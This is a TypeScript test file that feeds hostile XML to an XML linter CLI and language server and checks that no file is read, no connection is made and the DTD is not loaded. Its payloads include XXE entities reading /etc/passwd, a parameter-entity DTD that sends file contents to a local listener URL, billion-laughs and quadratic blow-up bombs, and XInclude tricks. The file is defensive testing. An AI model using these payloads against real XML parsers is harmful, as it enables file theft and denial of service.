// Hostile XML through the real CLI and the real server: external entities (a sentinel file and
// /etc/passwd), parameter entities, external DTDs over file: and http:, billion laughs, quadratic blow-up,
// http schemaLocations, XInclude and stylesheet PIs — also inside a KITH message that XSD validation sees.
// Asserted: no file of ours is opened and no connection is made (strace when it works here, and a local
// listener that must see none), nothing of the sentinel reaches the output, and each answer comes within
// a bound with the DTD reported as not loaded.

import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI, ROOT } from '../helpers/cli';
import { startServer } from '../helpers/lsp';
import { forbiddenSyscalls, listen, straceWorks, straceWrap, type Listener } from './syscalls';

const BOUND_MS = 30_000;
const SENTINEL = `NHN-SENTINEL-${process.pid}-${Date.now()}`;
const KITH_SCHEMAS = path.resolve(ROOT, '../shared/fixtures/nhn-schemas/kith-core');
const MSGHEAD_NS = 'http://www.kith.no/xmlstds/msghead/2006-05-24';

let scanDir: string;
let secretDir: string;
let listener: Listener;

function hostileDocuments(port: number, secret: string): Array<{ name: string; text: string; dtd: boolean }> {
  const url = `http://127.0.0.1:${port}`;
  const lol = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join('');
  const msgHead = (doctype: string, body: string) =>
    `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}\n<MsgHead xmlns="${MSGHEAD_NS}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${MSGHEAD_NS} ${url}/MsgHead-v1_2.xsd">\n<MsgInfo><Type V="&x;" DN="${body}"/></MsgInfo>\n</MsgHead>\n`;
  return [
    { name: 'xxe-file.xml', dtd: true, text: `<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file://${secret}/secret.txt">]>\n<r>&x;</r>\n` },
    { name: 'xxe-passwd.xml', dtd: true, text: `<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<r>&x;</r>\n` },
    { name: 'xxe-relative.xml', dtd: true, text: `<!DOCTYPE r [<!ENTITY x SYSTEM "../${path.basename(secret)}/secret.txt">]>\n<r>&x;</r>\n` },
    { name: 'param-entity-http.xml', dtd: true, text: `<!DOCTYPE r [<!ENTITY % p SYSTEM "${url}/p.dtd"> %p;]>\n<r>&e;</r>\n` },
    { name: 'param-entity-file.xml', dtd: true, text: `<!DOCTYPE r [<!ENTITY % p SYSTEM "file://${secret}/evil.dtd"> %p; %all;]>\n<r>&send;</r>\n` },
    { name: 'external-dtd-http.xml', dtd: true, text: `<!DOCTYPE r SYSTEM "${url}/x.dtd">\n<r/>\n` },
    { name: 'external-dtd-public.xml', dtd: true, text: `<!DOCTYPE r PUBLIC "-//EVIL//DTD x//EN" "${url}/public.dtd">\n<r/>\n` },
    { name: 'external-dtd-file.xml', dtd: true, text: `<!DOCTYPE r SYSTEM "file://${secret}/evil.dtd">\n<r/>\n` },
    { name: 'external-dtd-dns.xml', dtd: true, text: `<!DOCTYPE r SYSTEM "http://nhn-hostile.invalid/x.dtd">\n<r/>\n` },
    { name: 'billion-laughs.xml', dtd: true, text: `<?xml version="1.0"?>\n<!DOCTYPE lolz [${lol}]>\n<lolz>&lol9;</lolz>\n` },
    { name: 'quadratic-blowup.xml', dtd: true, text: `<!DOCTYPE r [<!ENTITY a "${'x'.repeat(50_000)}">]>\n<r>${'&a;'.repeat(50_000)}</r>\n` },
    {
      name: 'schemalocation-http.xml',
      dtd: false,
      text: `<r xmlns="urn:evil" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:evil ${url}/s.xsd"/>\n`,
    },
    {
      name: 'nonamespace-schemalocation-http.xml',
      dtd: false,
      text: `<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${url}/s.xsd"/>\n`,
    },
    {
      name: 'xinclude.xml',
      dtd: false,
      text: `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://${secret}/secret.txt" parse="text"/><xi:include href="${url}/inc.xml"/></r>\n`,
    },
    { name: 'stylesheet-pi.xml', dtd: false, text: `<?xml-stylesheet type="text/xsl" href="${url}/s.xsl"?>\n<r/>\n` },
    { name: 'msghead-xxe.xml', dtd: true, text: msgHead(`<!DOCTYPE MsgHead [<!ENTITY x SYSTEM "file://${secret}/secret.txt">]>`, 'x') },
    {
      name: 'msghead-param-entity.xml',
      dtd: true,
      text: msgHead(`<!DOCTYPE MsgHead [<!ENTITY % p SYSTEM "${url}/p.dtd"> %p; <!ENTITY x "DIALOG_HELSEFAGLIG">]>`, 'y'),
    },
    { name: 'msghead-laughs.xml', dtd: true, text: msgHead(`<!DOCTYPE MsgHead [${lol}<!ENTITY x "&lol9;">]>`, 'z') },
  ];
}

beforeAll(async () => {
  listener = await listen();
  scanDir = mkdtempSync(path.join(tmpdir(), 'nhn-hostile-'));
  secretDir = mkdtempSync(path.join(tmpdir(), 'nhn-secret-'));
  writeFileSync(path.join(secretDir, 'secret.txt'), SENTINEL);
  writeFileSync(
    path.join(secretDir, 'evil.dtd'),
    `<!ENTITY % file SYSTEM "file://${secretDir}/secret.txt">\n<!ENTITY % all "<!ENTITY send SYSTEM 'http://127.0.0.1:${listener.port}/?%file;'>">\n`,
  );
  for (const d of hostileDocuments(listener.port, secretDir)) writeFileSync(path.join(scanDir, d.name), d.text);
  if (!straceWorks())
    console.log('robust/hostile: strace is not available or not permitted here: the syscall assertions are skipped (listener and output checks still run)');
});

afterAll(async () => {
  await listener.close();
  rmSync(scanDir, { recursive: true, force: true });
  rmSync(secretDir, { recursive: true, force: true });
});

const FORBIDDEN = () => [secretDir, '/etc/passwd'];

function run(cmd: string, args: string[]): Promise<{ status: number | null; stdout: string; stderr: string; ms: number }> {
  const t0 = Date.now();
  return new Promise((resolve) => {
    const child = spawn(cmd, args, { cwd: ROOT, env: { ...process.env, NHN_TODAY: '2026-11-26', NO_COLOR: '1' } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    const timer = setTimeout(() => child.kill('SIGKILL'), BOUND_MS);
    child.on('close', (status) => (clearTimeout(timer), resolve({ status, stdout, stderr, ms: Date.now() - t0 })));
  });
}

describe('hostile XML', () => {
  it('through nhn-lint: no file read, no connection, an answer within the bound', async () => {
    const log = path.join(secretDir, '..', `${path.basename(secretDir)}-cli.strace`);
    const schemas = existsSync(KITH_SCHEMAS) ? ['--schemas', KITH_SCHEMAS] : [];
    const argv = [...(straceWorks() ? straceWrap(log) : []), process.execPath, CLI, '--format', 'json', ...schemas, scanDir];
    const r = await run(argv[0], argv.slice(1));
    expect(r.ms, 'within the bound').toBeLessThan(BOUND_MS);
    expect([0, 1], r.stderr).toContain(r.status);
    const out = JSON.parse(r.stdout) as { files: number; findings: Array<{ file: string; rule: string; message: string }> };
    expect(out.files).toBe(hostileDocuments(0, '').length);
    expect(r.stdout + r.stderr).not.toContain(SENTINEL);
    expect(r.stdout + r.stderr).not.toMatch(/root:x?:0:0/);
    for (const d of hostileDocuments(0, '').filter((x) => x.dtd)) {
      expect(
        out.findings.filter((f) => f.file.endsWith(d.name)).map((f) => f.rule),
        d.name,
      ).toContain('xml/dtd-not-loaded');
    }
    expect(listener.connections(), 'connections to the local listener').toBe(0);
    if (straceWorks()) {
      expect(forbiddenSyscalls(log, FORBIDDEN())).toEqual([]);
      rmSync(log, { force: true });
    }
  });

  it('through the language server: no file read, no connection, diagnostics within the bound', async () => {
    const log = path.join(secretDir, '..', `${path.basename(secretDir)}-server.strace`);
    const settings = existsSync(KITH_SCHEMAS) ? { xml: { schemaPaths: [KITH_SCHEMAS] } } : {};
    const session = await startServer({ settings, wrap: straceWorks() ? straceWrap(log) : undefined });
    try {
      for (const d of hostileDocuments(listener.port, secretDir)) {
        const uri = `file://${scanDir}/${d.name}`;
        const t0 = Date.now();
        const got = session.diagnostics(uri, () => true, BOUND_MS);
        session.open(uri, 'xml', d.text);
        const diags = await got;
        expect(Date.now() - t0, d.name).toBeLessThan(BOUND_MS);
        expect(JSON.stringify(diags)).not.toContain(SENTINEL);
        if (d.dtd)
          expect(
            diags.map((x) => x.code),
            d.name,
          ).toContain('xml/dtd-not-loaded');
      }
      // Hovers and code actions on the hostile documents answer too (a request after them does not hang).
      const hover = await session.connection.sendRequest('textDocument/hover', {
        textDocument: { uri: `file://${scanDir}/msghead-xxe.xml` },
        position: { line: 3, character: 12 },
      });
      expect(JSON.stringify(hover ?? null)).not.toContain(SENTINEL);
    } finally {
      await session.close();
    }
    expect(listener.connections(), 'connections to the local listener').toBe(0);
    if (straceWorks()) {
      expect(forbiddenSyscalls(log, FORBIDDEN())).toEqual([]);
      rmSync(log, { force: true });
    }
  });

  it('the watchers see what they are meant to see (a process that does read the sentinel and connect)', async () => {
    const log = path.join(secretDir, '..', `${path.basename(secretDir)}-self.strace`);
    const script = `const fs=require('fs'),net=require('net');fs.readFileSync(${JSON.stringify(path.join(secretDir, 'secret.txt'))});const s=net.connect(${listener.port},'127.0.0.1',()=>s.end());s.on('error',()=>{});s.on('close',()=>{});`;
    const argv = [...(straceWorks() ? straceWrap(log) : []), process.execPath, '-e', script];
    await run(argv[0], argv.slice(1));
    await new Promise((r) => setTimeout(r, 200));
    expect(listener.connections()).toBe(1);
    if (straceWorks()) {
      const seen = forbiddenSyscalls(log, FORBIDDEN());
      expect(seen.some((l) => l.includes('secret.txt'))).toBe(true);
      expect(seen.some((l) => l.includes('connect('))).toBe(true);
      rmSync(log, { force: true });
    }
  });
});
